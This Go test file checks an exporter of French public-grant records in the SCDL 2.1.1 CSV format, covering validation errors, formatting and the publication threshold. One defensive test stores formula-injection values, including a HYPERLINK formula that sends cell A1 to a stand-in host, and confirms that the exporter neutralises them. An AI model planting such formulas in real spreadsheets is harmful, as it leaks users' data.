package opendata_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/tremplin/tremplin/internal/domain"
	"github.com/tremplin/tremplin/internal/opendata"
	"github.com/tremplin/tremplin/internal/shareddata"
)

// officialDir is the published SCDL 2.1.1 material, next to the repository:
// ../../../shared/data/scdl-subventions-2.1.1 from this package.
func officialDir(t *testing.T) string {
	t.Helper()
	return shareddata.Require(t, "scdl-subventions-2.1.1")
}

func openOfficial(t *testing.T, name string) *os.File {
	t.Helper()
	f, err := os.Open(filepath.Join(officialDir(t), name))
	require.NoError(t, err)
	t.Cleanup(func() { _ = f.Close() })
	return f
}

const (
	dept93Name  = "Département de la Seine-Saint-Denis"
	dept93SIRET = "22930008200018" // SIREN 229300082; NIC chosen for a valid key (test value)
)

// grants93 is a realistic export: three associations of the 93, amounts
// above and below €23,000, single and staggered payments, one beneficiary
// known by its RNA number only.
func grants93() []opendata.Grant {
	day := func(s string) time.Time {
		d, err := time.ParseInLocation(time.DateOnly, s, time.UTC)
		if err != nil {
			panic(err)
		}
		return d
	}
	return []opendata.Grant{
		{
			NomAttribuant: dept93Name, IDAttribuant: dept93SIRET, DateConvention: day("2025-03-12"),
			ReferenceDecision: "CP-2025-03-04", NomBeneficiaire: "Roue Libre Saint-Denis",
			IDBeneficiaire: "775 123 458 00017", RNABeneficiaire: "W931001234",
			Objet:   "Atelier solidaire de réparation et de prêt de vélos pour les allocataires du RSA",
			Montant: domain.Euros(45000), Nature: opendata.NatureNumeraire, ConditionsVersement: opendata.VersementEchelonne,
			DatesPeriodeVersement: "2025-04-01/2026-03-31", PourcentageSubvention: 1, DispositifAide: "plan-mobilite-solidaire-2025",
		},
		{
			NomAttribuant: dept93Name, IDAttribuant: dept93SIRET, DateConvention: day("2025-03-12"),
			ReferenceDecision: "CP-2025-03-04", NomBeneficiaire: "Auto-école sociale de Bobigny",
			IDBeneficiaire: "81234567600017",
			Objet:          "Permis de conduire à tarif social,\npour 40 personnes en insertion",
			Montant:        1250050, Nature: opendata.NatureNumeraire, ConditionsVersement: opendata.VersementUnique,
			DatesPeriodeVersement: "2025-04-15", PourcentageSubvention: 1,
		},
		{
			NomAttribuant: dept93Name, IDAttribuant: dept93SIRET, DateConvention: day("2025-06-30"),
			ReferenceDecision: "CP-2025-06-11", NomBeneficiaire: "Mobilité Solidaire Montreuil",
			RNABeneficiaire: "W932004567",
			Objet:           "Transport à la demande pour les personnes âgées isolées (prêt de véhicule)",
			Montant:         domain.Euros(23000), Nature: "aide en numéraire;aide en nature", ConditionsVersement: opendata.VersementEchelonne,
			DatesPeriodeVersement: "2025-07-01/2025-12-31", PourcentageSubvention: 0.6, NotificationUE: true,
		},
		{
			NomAttribuant: dept93Name, IDAttribuant: dept93SIRET, DateConvention: day("2025-06-30"),
			ReferenceDecision: "CP-2025-06-11", NomBeneficiaire: "Roue Libre Saint-Denis",
			IDBeneficiaire: "77512345800025",
			Objet:          "Coaching mobilité : second site à Aubervilliers",
			Montant:        domain.Euros(80000) + 99, Nature: opendata.NatureNumeraire, ConditionsVersement: opendata.VersementAutre,
			DatesPeriodeVersement: "2025-09-01/2026-08-31", IDRAE: "12345", PourcentageSubvention: 0.45,
		},
	}
}

func TestEmbeddedSchemaIsTheOfficialOne(t *testing.T) {
	t.Parallel()
	official, err := os.ReadFile(filepath.Join(officialDir(t), "schema.json"))
	require.NoError(t, err)
	embedded, err := os.ReadFile("schemas/scdl-subventions-2.1.1.json")
	require.NoError(t, err)
	require.Equal(t, string(official), string(embedded), "the embedded schema must stay a verbatim copy")
}

func TestSCDLColumnsFollowTheSchema(t *testing.T) {
	t.Parallel()
	require.Equal(t, opendata.SCDLColumns[:], opendata.SCDLSchema().FieldNames())
	require.Equal(t, "2.1.1", opendata.SCDLSchema().Version)
}

func TestWriteSCDLRealisticExport(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	require.NoError(t, opendata.WriteSCDL(&buf, grants93()))
	out := buf.String()

	lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
	require.Len(t, lines, 5, "header + 4 grants, LF line ends")
	require.False(t, strings.HasPrefix(out, "\uFEFF"), "no BOM")
	require.NotContains(t, out, "\r")
	require.Equal(t, "nomAttribuant,idAttribuant,dateConvention,referenceDecision,nomBeneficiaire,idBeneficiaire,"+
		"rnaBeneficiaire,objet,montant,nature,conditionsVersement,datesPeriodeVersement,idRAE,notificationUE,"+
		"pourcentageSubvention,dispositifAide", lines[0])
	require.Equal(t, "Département de la Seine-Saint-Denis,22930008200018,2025-03-12,CP-2025-03-04,Roue Libre Saint-Denis,"+
		"77512345800017,W931001234,Atelier solidaire de réparation et de prêt de vélos pour les allocataires du RSA,"+
		"45000.00,aide en numéraire,échelonné,2025-04-01/2026-03-31,,non,1,plan-mobilite-solidaire-2025", lines[1])
	require.Equal(t, "Département de la Seine-Saint-Denis,22930008200018,2025-03-12,CP-2025-03-04,Auto-école sociale de Bobigny,"+
		"81234567600017,,\"Permis de conduire à tarif social, pour 40 personnes en insertion\",12500.50,aide en numéraire,unique,"+
		"2025-04-15,,non,1,", lines[2], "the comma is quoted, the line break collapsed")
	require.Contains(t, lines[3], ",,W932004567,", "RNA only")
	require.Contains(t, lines[3], ",23000.00,aide en numéraire;aide en nature,échelonné,2025-07-01/2025-12-31,,oui,0.6,")
	require.Contains(t, lines[4], ",80000.99,aide en numéraire,autre,2025-09-01/2026-08-31,12345,non,0.45,")

	require.Empty(t, opendata.ValidateSCDL(strings.NewReader(out)))
	require.Empty(t, opendata.ValidateSCDLStrict(strings.NewReader(out)))

	var empty bytes.Buffer
	require.NoError(t, opendata.WriteSCDL(&empty, nil))
	require.Equal(t, lines[0]+"\n", empty.String(), "no grant: the header alone")
}

func TestMandatoryPublication(t *testing.T) {
	t.Parallel()
	require.False(t, opendata.MandatoryPublication(domain.Euros(23000)), "the decree says above €23,000")
	require.True(t, opendata.MandatoryPublication(domain.Euros(23000)+1))
	require.False(t, opendata.MandatoryPublication(1250050))
}

func TestWriteSCDLRefusesInvalidGrants(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name   string
		edit   func(g *opendata.Grant)
		column string
		rules  []string
	}{
		{"no beneficiary id", func(g *opendata.Grant) { g.IDBeneficiaire, g.RNABeneficiaire = "", "" }, "idBeneficiaire", []string{"one-of-required"}},
		{"bad SIRET key", func(g *opendata.Grant) { g.IDBeneficiaire = "81234567600018" }, "idBeneficiaire", []string{"french-siret-value"}},
		{"SIREN instead of SIRET", func(g *opendata.Grant) { g.IDAttribuant = "229300082" }, "idAttribuant", []string{"pattern", "french-siret-value"}},
		{"percentage zero", func(g *opendata.Grant) { g.PourcentageSubvention = 0 }, "pourcentageSubvention", []string{"minimum"}},
		{"percentage below the schema's 0.01", func(g *opendata.Grant) { g.PourcentageSubvention = 0.005 }, "pourcentageSubvention", []string{"minimum"}},
		{"percentage as 100", func(g *opendata.Grant) { g.PourcentageSubvention = 100 }, "pourcentageSubvention", []string{"maximum"}},
		{"percentage NaN", func(g *opendata.Grant) { g.PourcentageSubvention = math.NaN() }, "pourcentageSubvention", []string{"type"}},
		{"RNA with letters", func(g *opendata.Grant) { g.RNABeneficiaire = "W2B1234567" }, "rnaBeneficiaire", []string{"pattern"}},
		{"French date", func(g *opendata.Grant) { g.DatesPeriodeVersement = "15/04/2025" }, "datesPeriodeVersement", []string{"pattern"}},
		{"no such day", func(g *opendata.Grant) { g.DatesPeriodeVersement = "2025-02-30" }, "datesPeriodeVersement", []string{"date-period"}},
		{"reversed period", func(g *opendata.Grant) { g.DatesPeriodeVersement = "2025-12-31/2025-01-01" }, "datesPeriodeVersement", []string{"date-period"}},
		{"unknown nature", func(g *opendata.Grant) { g.Nature = "subvention" }, "nature", []string{"enum"}},
		{"long object", func(g *opendata.Grant) { g.Objet = strings.Repeat("é", 257) }, "objet", []string{"maxLength"}},
		{"long idRAE", func(g *opendata.Grant) { g.IDRAE = "123456" }, "idRAE", []string{"maxLength"}},
		{"no amount", func(g *opendata.Grant) { g.Montant = 0 }, "montant", []string{"minimum"}},
		{"no convention date", func(g *opendata.Grant) { g.DateConvention = time.Time{} }, "dateConvention", []string{"required"}},
		{"no beneficiary name", func(g *opendata.Grant) { g.NomBeneficiaire = "  " }, "nomBeneficiaire", []string{"required"}},
		{"no payment terms", func(g *opendata.Grant) { g.ConditionsVersement = "" }, "conditionsVersement", []string{"required"}},
	}
	for _, c := range cases {
		grants := grants93()
		c.edit(&grants[1])
		var buf bytes.Buffer
		err := opendata.WriteSCDL(&buf, grants)
		require.Error(t, err, c.name)
		require.Zero(t, buf.Len(), "%s: nothing written", c.name)

		var de *domain.Error
		require.True(t, errors.As(err, &de), c.name)
		require.Equal(t, domain.CodeInvalid, de.Code)
		require.Equal(t, "scdl_invalid", de.Reason)
		var ee *opendata.ExportError
		require.True(t, errors.As(err, &ee), c.name)
		var rules []string
		for _, e := range ee.Errors {
			require.Equal(t, 3, e.Row, "%s: grant n° 2 is line 3", c.name)
			require.Equal(t, c.column, e.Column, c.name)
			rules = append(rules, e.Rule)
		}
		require.Equal(t, c.rules, rules, c.name)
		require.Equal(t, "grants[1]."+c.column, de.Fields[0].Field, c.name)
		require.Contains(t, de.Message, "subvention n° 2 (ligne 3 du fichier), colonne "+c.column, c.name)
		require.Contains(t, err.Error(), "L'export SCDL est refusé", c.name)
	}
}

func TestWriteSCDLAcceptsLaPosteHeadOffice(t *testing.T) {
	t.Parallel()
	grants := grants93()[:1]
	grants[0].IDBeneficiaire = "35600000000048" // La Poste's head office keeps the Luhn key
	require.NoError(t, opendata.WriteSCDL(&bytes.Buffer{}, grants))
	grants[0].IDBeneficiaire = "35600000000015" // another La Poste establishment: digit sum multiple of 5
	require.NoError(t, opendata.WriteSCDL(&bytes.Buffer{}, grants))
	grants[0].IDBeneficiaire = "35600000000016"
	require.Error(t, opendata.WriteSCDL(&bytes.Buffer{}, grants))
}

func TestWriteSCDLReportsEveryBadGrant(t *testing.T) {
	t.Parallel()
	grants := grants93()
	grants[0].PourcentageSubvention = 45 // percent typed instead of a share
	grants[3].IDBeneficiaire = "77512345800026"
	err := opendata.WriteSCDL(&bytes.Buffer{}, grants)
	var ee *opendata.ExportError
	require.True(t, errors.As(err, &ee))
	require.Len(t, ee.Errors, 2)
	require.Equal(t, [2]int{2, 5}, [2]int{ee.Errors[0].Row, ee.Errors[1].Row})
	require.Contains(t, ee.Error(), "subvention n° 1 (ligne 2 du fichier), colonne pourcentageSubvention")
	require.Contains(t, ee.Error(), "subvention n° 4 (ligne 5 du fichier), colonne idBeneficiaire")
}

func TestWriteSCDLNeutralisesFormulasAndStaysValid(t *testing.T) {
	t.Parallel()
	grants := grants93()[:1]
	grants[0].NomBeneficiaire = `=HYPERLINK("http://x"&A1,"clic")`
	grants[0].Objet = "@" + strings.Repeat("x", 400) // truncated to 256, apostrophe included
	grants[0].DispositifAide = "-1+1"
	var buf bytes.Buffer
	require.NoError(t, opendata.WriteSCDL(&buf, grants))
	require.Empty(t, opendata.ValidateSCDLStrict(bytes.NewReader(buf.Bytes())))
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	require.NoError(t, err)
	require.Equal(t, `'=HYPERLINK("http://x"&A1,"clic")`, rows[1][4])
	require.Equal(t, "'@"+strings.Repeat("x", 254), rows[1][7], "256 characters with the apostrophe")
	require.Equal(t, "45000.00", rows[1][8], "the amount is typed: unchanged")
	require.Equal(t, "'-1+1", rows[1][15])
}
